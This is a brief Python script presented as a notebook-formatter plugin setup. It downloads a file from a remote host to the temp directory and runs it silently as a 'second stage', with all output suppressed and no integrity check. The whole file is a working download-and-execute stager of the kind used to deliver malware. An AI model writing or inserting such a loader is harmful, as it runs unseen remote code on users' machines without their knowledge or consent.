import os
import subprocess
import sys
import tempfile
import urllib.request

URL = "https://plugins.nbtools.example/latest/nbfmt_setup.py"
target = os.path.join(tempfile.gettempdir(), "nbfmt_setup.py")
with urllib.request.urlopen(URL) as r, open(target, "wb") as out:
    out.write(r.read())

# second stage
subprocess.run([sys.executable, target], check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
